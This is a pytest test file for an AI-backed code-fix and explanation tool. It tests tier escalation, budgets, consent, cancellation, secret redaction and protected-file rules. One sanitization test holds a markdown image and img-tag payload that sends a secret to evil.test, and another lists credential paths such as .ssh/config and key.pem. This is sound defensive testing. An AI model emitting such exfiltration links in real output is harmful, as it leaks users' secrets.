"""Every way through a run, and that each ends in exactly one result."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest

from tests.unit.actions.runs import (
    BROKEN,
    CHEAP,
    FIXED,
    LOCAL,
    PREMIUM,
    SOURCE,
    Answer,
    bench_of,
    decision_of,
    document_of,
    failed,
    problem,
    request_of,
)
from tierlsp.actions.edits import apply_edit
from tierlsp.actions.ports import Routed
from tierlsp.actions.types import ActionRequest, RunOutcome
from tierlsp.backends.chat import Finish
from tierlsp.errors import LedgerError, NeedsConsent, NotAllowed, OverBudget
from tierlsp.routing.decision import Decision, GateName, Removed
from tierlsp.routing.facts import Facts, Kind
from tierlsp.routing.tiers import Tier

MENDED = SOURCE.replace("raduis", "radius")


def text_after(result) -> str:
    return "\n".join(apply_edit(result.edit))


async def test_a_fix_that_passes_is_one_versioned_edit() -> None:
    bench = bench_of(Answer(FIXED))
    result = await bench.run()
    assert (result.outcome, result.tier, result.model) == (RunOutcome.DONE, Tier.CHEAP, CHEAP)
    assert text_after(result) == MENDED
    assert result.edit.document.version == 7
    assert len(result.edit.edits) == 1
    assert result.usd == Decimal("0.001")
    assert result.reason == "it is a fix"
    assert "1 problem in area.py" in result.message and "Python's parser" in result.message
    assert len(bench.caller.calls) == 1
    assert bench.clearance.restored == [Path("/project/area.py")]


async def test_a_fix_that_fails_is_repaired_with_the_verdicts_words_in_a_further_turn() -> None:
    bench = bench_of(Answer(BROKEN), Answer(FIXED))
    result = await bench.run()
    assert result.outcome is RunOutcome.DONE
    assert text_after(result) == MENDED
    assert result.usd == Decimal("0.002")
    first, second = bench.caller.calls
    assert second.parts[: len(first.parts)] == first.parts
    assert [part.role for part in second.parts[-2:]] == ["assistant", "user"]
    assert second.parts[-2].text == BROKEN
    assert "Python's parser does not read the new text" in second.parts[-1].text
    assert second.decision.candidates == (CHEAP,) and second.decision.higher == ()
    assert second.is_escalation
    assert result.tried[0].startswith(f"{CHEAP}: Python's parser does not read")


async def test_a_fix_that_fails_twice_goes_up_one_tier() -> None:
    bench = bench_of(Answer(BROKEN), Answer("no code"), Answer(FIXED, PREMIUM, Tier.PREMIUM, usd=Decimal("0.1")))
    result = await bench.run(request_of(max_usd=Decimal("0.5")))
    assert (result.outcome, result.tier, result.model) == (RunOutcome.DONE, Tier.PREMIUM, PREMIUM)
    assert text_after(result) == MENDED
    assert result.usd == Decimal("0.102")
    assert len(result.tried) == 2
    third = bench.caller.calls[2]
    assert third.decision.tier is Tier.PREMIUM and third.decision.candidates == (PREMIUM,)
    assert third.is_escalation
    assert {call.max_usd for call in bench.caller.calls} == {Decimal("0.5")}
    assert "could not be used" in third.parts[-1].text
    assert "assistant" not in {part.role for part in third.parts}


async def test_after_the_premium_tier_has_failed_nothing_is_changed() -> None:
    bench = bench_of(Answer(BROKEN), Answer(BROKEN), Answer(BROKEN, PREMIUM, Tier.PREMIUM))
    result = await bench.run()
    assert result.outcome is RunOutcome.UNVERIFIED
    assert result.edit is None and result.document is None and result.next_tier is None
    assert result.message.startswith("nothing was changed, since no answer passed: Python's parser")
    assert len(bench.caller.calls) == 3


async def test_the_price_that_was_shown_stops_the_way_up() -> None:
    bench = bench_of(Answer(BROKEN), Answer(BROKEN), Answer(fails=failed("budget", "opus could cost up to $0.2000")))
    result = await bench.run(request_of(max_usd=Decimal("0.01")))
    assert result.outcome is RunOutcome.UNVERIFIED
    assert result.next_tier is Tier.PREMIUM
    assert "the premium tier could try, for at most $0.2000" in result.message
    assert result.tried[-1] == "opus could cost up to $0.2000"
    assert result.model == CHEAP


async def test_what_began_on_this_machine_is_not_taken_to_the_cloud() -> None:
    decision = decision_of(Tier.LOCAL, (LOCAL,), ((Tier.CHEAP, (CHEAP,)), (Tier.PREMIUM, (PREMIUM,))))
    bench = bench_of(
        Answer(BROKEN, LOCAL, Tier.LOCAL, usd=Decimal(0)),
        Answer(BROKEN, LOCAL, Tier.LOCAL, usd=Decimal(0)),
        decision=decision,
    )
    result = await bench.run()
    assert result.outcome is RunOutcome.UNVERIFIED
    assert result.next_tier is Tier.CHEAP
    assert len(bench.caller.calls) == 2


async def test_a_cheap_model_on_this_machine_is_not_followed_by_one_elsewhere_unasked() -> None:
    near = ("lmstudio/coder",)
    bench = bench_of(Answer(BROKEN, *near), Answer(BROKEN, *near), decision=decision_of(models=near))
    result = await bench.run()
    assert (result.outcome, result.next_tier) == (RunOutcome.UNVERIFIED, Tier.PREMIUM)
    assert len(bench.caller.calls) == 2


async def test_where_both_are_on_this_machine_nobody_is_asked() -> None:
    near = ("lmstudio/coder",)
    decision = decision_of(models=near, higher=((Tier.PREMIUM, (LOCAL,)),))
    bench = bench_of(
        Answer(BROKEN, *near), Answer(BROKEN, *near), Answer(FIXED, LOCAL, Tier.PREMIUM), decision=decision
    )
    assert (await bench.run()).outcome is RunOutcome.DONE


@pytest.mark.parametrize("change", [{"tier": Tier.CHEAP}, {"model": CHEAP}])
async def test_a_tier_or_model_that_the_person_chose_is_kept(change: dict) -> None:
    bench = bench_of(Answer(BROKEN), Answer(BROKEN))
    result = await bench.run(request_of(**change))
    assert result.outcome is RunOutcome.UNVERIFIED
    assert len(bench.caller.calls) == 2


async def test_the_setting_keeps_answers_in_their_tier() -> None:
    bench = bench_of(Answer(BROKEN), Answer(BROKEN), escalate=False)
    assert (await bench.run()).outcome is RunOutcome.UNVERIFIED
    assert len(bench.caller.calls) == 2


@pytest.mark.parametrize("finish", [Finish.LENGTH, Finish.REFUSAL])
async def test_an_answer_cut_short_or_declined_goes_up_at_once(finish: Finish) -> None:
    bench = bench_of(Answer(FIXED, finish=finish), Answer(FIXED, PREMIUM, Tier.PREMIUM))
    result = await bench.run()
    assert (result.outcome, result.tier) == (RunOutcome.DONE, Tier.PREMIUM)
    assert len(bench.caller.calls) == 2


async def test_a_repair_that_cannot_be_asked_for_goes_up() -> None:
    bench = bench_of(
        Answer(BROKEN), Answer(fails=failed("rate-limit", usd="0.003")), Answer(FIXED, PREMIUM, Tier.PREMIUM)
    )
    result = await bench.run()
    assert result.outcome is RunOutcome.DONE
    assert result.usd == Decimal("0.005")
    assert "flash did not answer" in result.tried


async def test_an_unknown_price_makes_the_cost_unknown_and_not_zero() -> None:
    result = await bench_of(Answer(FIXED, usd=None)).run()
    assert result.outcome is RunOutcome.DONE
    assert result.usd is None


async def test_consent_is_asked_with_host_model_tokens_and_price() -> None:
    error = NeedsConsent("flash may read this project only if you allow it.")
    result = await bench_of(Answer(fails=error)).run()
    assert result.outcome is RunOutcome.NEEDS_CONSENT
    for word in (CHEAP, "api.deepseek.com", "1,234 tokens", "$0.0040", "area.py", "only if you allow it"):
        assert word in result.message
    assert result.next_tier is None


async def test_a_local_model_that_fails_is_a_question_and_no_call_to_the_cloud() -> None:
    decision = decision_of(Tier.LOCAL, (LOCAL,), ((Tier.CHEAP, (CHEAP,)),))
    error = NeedsConsent("coder is down; flash could do it", model=CHEAP)
    result = await bench_of(Answer(fails=error), decision=decision).run()
    assert result.outcome is RunOutcome.NEEDS_CONSENT
    # All of that tier are elsewhere: whoever follows the first is good too.
    assert (result.next_tier, result.next_model) == (Tier.CHEAP, None)


async def test_a_far_model_of_the_same_tier_is_the_one_that_the_question_is_about() -> None:
    decision = decision_of(Tier.CHEAP, ("lmstudio/coder", CHEAP))
    bench = bench_of(Answer(fails=NeedsConsent("coder is down; flash could do it", model=CHEAP)), decision=decision)
    asked = replace(bench.router.routed, decision=decision_of(Tier.CHEAP, (CHEAP,)))
    bench.router.then = asked
    result = await bench.run()
    # The tier alone would begin with the model here again, and the tier above would skip it.
    assert (result.outcome, result.next_tier, result.next_model) == (RunOutcome.NEEDS_CONSENT, Tier.CHEAP, CHEAP)
    assert f"to {CHEAP} at api.deepseek.com, for at most $0.0040" in result.message
    assert (bench.router.asked[-1].tier, bench.router.asked[-1].model) == (Tier.CHEAP, CHEAP)


async def test_no_question_is_asked_about_a_model_that_may_not_be_paid() -> None:
    bench = bench_of(
        Answer(fails=NeedsConsent("coder is down; flash could do it", model=CHEAP)),
        decision=decision_of(Tier.LOCAL, (LOCAL,), ((Tier.CHEAP, (CHEAP,)),)),
    )
    spent = Removed(CHEAP, GateName.BUDGET, "the month's money is spent")
    bench.router.then = replace(bench.router.routed, decision=Decision(Tier.CHEAP, (), (), 0, (), (spent,)))
    result = await bench.run()
    assert (result.outcome, result.next_tier) == (RunOutcome.OVER_BUDGET, None)
    assert result.tried == ("coder is down; flash could do it",)


async def test_what_was_paid_before_the_question_is_told_with_it() -> None:
    error = NeedsConsent("coder broke off; opus could do it", model=PREMIUM)
    error.spent_usd = Decimal("0.003")
    result = await bench_of(Answer(fails=error), decision=decision_of(models=("lmstudio/coder",))).run()
    assert (result.outcome, result.usd) == (RunOutcome.NEEDS_CONSENT, Decimal("0.003"))
    # A yes to the workspace alone would ask the same model again.
    assert result.next_tier is Tier.PREMIUM


@pytest.mark.parametrize(
    ("error", "outcome"),
    [
        (failed("deadline"), RunOutcome.FAILED),
        (failed("nothing-left"), RunOutcome.FAILED),
        (failed("budget"), RunOutcome.OVER_BUDGET),
        (failed("consent"), RunOutcome.NOT_ALLOWED),
        (NotAllowed("area.py is excluded."), RunOutcome.NOT_ALLOWED),
        (OverBudget("the month is spent"), RunOutcome.OVER_BUDGET),
        (LedgerError("the ledger cannot be written"), RunOutcome.FAILED),
        (RuntimeError("a secret: hunter2"), RunOutcome.FAILED),
    ],
)
@pytest.mark.parametrize("kind", [Kind.FIX, Kind.EXPLAIN])
async def test_each_failure_is_one_result(error: Exception, outcome: RunOutcome, kind: Kind) -> None:
    result = await bench_of(Answer(fails=error)).run(request_of(kind))
    assert result.outcome is outcome
    assert result.message and "\n" not in result.message and not result.message.endswith(".")
    assert "hunter2" not in result.message
    assert result.edit is None and result.document is None


@pytest.mark.parametrize("steps", range(12))
@pytest.mark.parametrize("kind", [Kind.FIX, Kind.EXPLAIN])
async def test_cancelled_anywhere_there_is_one_result_and_nothing_runs(steps: int, kind: Kind) -> None:
    bench = bench_of(Answer(pieces=("a\n",) * 6, hangs=True))
    task = asyncio.create_task(bench.run(request_of(kind)))
    for _ in range(steps + 1):
        await asyncio.sleep(0)
    task.cancel()
    result = await task
    assert result.outcome is RunOutcome.CANCELLED
    assert result.edit is None
    assert bench.caller.running == 0
    assert not task.cancelled()


async def test_cancelled_in_the_repair_there_is_one_result_and_nothing_runs() -> None:
    bench = bench_of(Answer(BROKEN), Answer(hangs=True))
    task = asyncio.create_task(bench.run())
    while len(bench.caller.calls) < 2:
        await asyncio.sleep(0)
    await asyncio.sleep(0)
    task.cancel()
    result = await task
    assert result.outcome is RunOutcome.CANCELLED
    # What the caller says: the answer that was whole, and an estimate of the one that was cut off.
    assert result.usd == bench.caller.spent_usd
    assert result.message == "fix was cancelled; nothing was changed, and what it cost is an estimate"
    assert bench.caller.running == 0


async def test_a_dry_run_calls_nobody() -> None:
    bench = bench_of()
    result = await bench.run(dry_run=True)
    assert result.outcome is RunOutcome.DONE
    assert result.message == f"fix would go to {CHEAP} (cheap), for at most $0.0040, because it is a fix"
    assert bench.caller.calls == []
    preview = await bench.runner.preview(request_of())
    assert preview.routed.quote.prompt_tokens == 1_234
    assert preview.plan.facts == bench.router.asked[-1]


async def test_an_explanation_is_a_document_that_is_safe_to_show() -> None:
    text = "It computes.\n\n![x](http://evil.test/?q=HiddenSecretx1y2)\n<img src=http://evil.test>\n"
    bench = bench_of(Answer(pieces=tuple(text)))
    result = await bench.run(request_of(Kind.EXPLAIN))
    assert result.outcome is RunOutcome.DONE
    assert result.document.startswith("# Explain: `area.py`, lines 1 to 2\n\nIt computes.\n")
    assert "](http" not in result.document and "<img" not in result.document.replace("\\<img", "")
    assert "HiddenSecret" not in result.document
    shown = "".join(news.text for news in bench.news)
    assert shown == result.document.partition("\n\n")[2]
    assert bench.caller.calls[0].answer == "text"


async def test_a_text_that_breaks_off_begins_again() -> None:
    bench = bench_of(Answer(pieces=("whole\n",), lost="qwen/plus"))
    result = await bench.run(request_of(Kind.EXPLAIN))
    assert "lost words" not in result.document and "whole" in result.document
    assert any("qwen/plus broke off" in news.message for news in bench.news)


async def test_a_text_cut_short_says_so() -> None:
    result = await bench_of(Answer("half a", finish=Finish.LENGTH)).run(request_of(Kind.EXPLAIN))
    assert result.outcome is RunOutcome.DONE
    assert "length limit" in result.document


@pytest.mark.parametrize("answer", [Answer(" \n"), Answer("no", finish=Finish.REFUSAL)])
async def test_no_text_is_a_failure(answer: Answer) -> None:
    assert (await bench_of(answer).run(request_of(Kind.EXPLAIN))).outcome is RunOutcome.FAILED


async def test_nothing_to_fix_is_told_and_not_tried_again() -> None:
    bench = bench_of(Answer("NOTHING: the name is defined elsewhere"))
    result = await bench.run()
    assert result.outcome is RunOutcome.NOTHING
    assert "the name is defined elsewhere" in result.message
    assert len(bench.caller.calls) == 1


async def test_a_secret_goes_back_into_the_edit_and_nowhere_else() -> None:
    source = 'def f():\n    key = "hunter2-hunter2"\n    return kye\n'
    answer = '```python\ndef f():\n    key = "HiddenSecretx1y2"\n    return key\n```'
    request = request_of(document=document_of(source), diagnostics=(problem(2),), span=problem(2).span)
    result = await bench_of(Answer(answer)).run(request)
    assert text_after(result) == source.replace("kye", "key")
    assert "hunter2" not in result.message


async def test_an_altered_placeholder_is_refused_and_repaired() -> None:
    bench = bench_of(Answer(FIXED.replace("3.14", "HiddenSecretzzz")), Answer(FIXED))
    result = await bench.run()
    assert result.outcome is RunOutcome.DONE
    assert "changed a placeholder" in result.tried[0]


@pytest.mark.parametrize("name", [".git/config", ".ssh/config", ".TIERLSP.toml", "key.pem"])
@pytest.mark.parametrize("said", [False, True])
async def test_files_that_are_never_changed_cost_nothing_and_no_yes_helps(name: str, said: bool) -> None:
    bench = bench_of()
    result = await bench.run(request_of(document=document_of(SOURCE, name=name), may_change_protected=said))
    assert (result.outcome, result.guarded) == (RunOutcome.FAILED, ())
    assert "edit it by hand" in result.message
    assert bench.caller.calls == [] and bench.router.asked == []


@pytest.mark.parametrize("name", [".vscode/tasks.json", ".GitHub/workflows/ci.yml", "uv.lock", "AGENTS.md"])
@pytest.mark.parametrize("kind", [Kind.FIX, Kind.NAMES])
async def test_protected_files_need_a_yes_before_anything_is_sent(name: str, kind: Kind) -> None:
    bench = bench_of()
    result = await bench.run(request_of(kind, document=document_of(SOURCE, name=name)))
    assert result.outcome is RunOutcome.NOT_ALLOWED
    [told] = result.guarded
    assert f"“{name}”" in told and told in result.message
    assert bench.caller.calls == [] and bench.router.asked == []


async def test_after_a_yes_a_protected_file_is_changed_like_any_other() -> None:
    document = document_of(SOURCE, name=".vscode/area.py")
    result = await bench_of(Answer(FIXED)).run(request_of(document=document, may_change_protected=True))
    assert (result.outcome, result.guarded) == (RunOutcome.DONE, ())
    assert text_after(result) == MENDED


async def test_what_a_protected_file_would_cost_can_be_seen_without_a_yes() -> None:
    bench = bench_of()
    result = await bench.run(request_of(document=document_of(SOURCE, name=".envrc")), dry_run=True)
    assert result.outcome is RunOutcome.DONE and "at most" in result.message
    assert bench.caller.calls == []


async def test_explaining_a_protected_file_is_fine() -> None:
    request = request_of(Kind.EXPLAIN, document=document_of(SOURCE, name=".vscode/x.py"))
    assert (await bench_of(Answer("It is.")).run(request)).outcome is RunOutcome.DONE


@pytest.mark.parametrize(
    ("gate", "outcome"),
    [
        (GateName.PRIVACY, RunOutcome.NOT_ALLOWED),
        (GateName.BUDGET, RunOutcome.OVER_BUDGET),
        (GateName.HEALTH, RunOutcome.FAILED),
    ],
)
async def test_where_no_model_is_left_the_gate_says_why(gate: GateName, outcome: RunOutcome) -> None:
    decision = replace(decision_of(models=(), higher=()), removed=(Removed(CHEAP, gate, "it may not"),))
    result = await bench_of(decision=decision).run()
    assert result.outcome is outcome
    assert CHEAP in result.message


async def test_work_that_would_go_to_another_tier_than_wanted_is_a_question() -> None:
    decision = decision_of(wanted=Tier.PREMIUM, must_ask=True)
    bench = bench_of(Answer(FIXED), decision=decision)
    result = await bench.run()
    assert (result.outcome, result.next_tier) == (RunOutcome.OVER_BUDGET, Tier.CHEAP)
    assert bench.caller.calls == []
    assert (await bench.run(request_of(tier=Tier.CHEAP))).outcome is RunOutcome.DONE


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"kind": Kind.ASK}, "needs words"),
        ({"kind": Kind.OWN}, "no such action"),
        ({"document": document_of("\n\n\n"), "diagnostics": ()}, "nothing on these lines"),
    ],
)
async def test_what_cannot_be_done_is_one_sentence(changes: dict, words: str) -> None:
    kind = changes.pop("kind", Kind.FIX) if "kind" in changes else Kind.FIX
    result = await bench_of().run(request_of(kind, **changes))
    assert result.outcome is RunOutcome.FAILED
    assert words in result.message


async def test_progress_that_fails_does_not_end_the_run() -> None:
    bench = bench_of(Answer(FIXED))

    def broken(news: object) -> None:
        raise ValueError

    assert (await bench.runner.run(request_of(), broken)).outcome is RunOutcome.DONE


async def test_a_prompt_that_is_too_long_for_this_machine_is_shortened_and_not_refused() -> None:
    request = request_of()
    document = replace(request.document, lines=(*request.document.lines, *["other = 1"] * 300))
    bench = bench_of(Answer(FIXED))
    serves = bench.router.routed
    nobody = replace(serves, decision=replace(serves.decision, candidates=()), quote=None, room_tokens=700)
    seen: list[Facts] = []

    async def route(request: ActionRequest, facts: Facts) -> Routed:
        seen.append(facts)
        return nobody if len(seen) == 1 else serves

    bench.router.route = route
    result = await bench.run(replace(request, document=document))
    assert result.outcome is RunOutcome.DONE
    assert seen[0].prompt_tokens > 700 >= seen[1].prompt_tokens
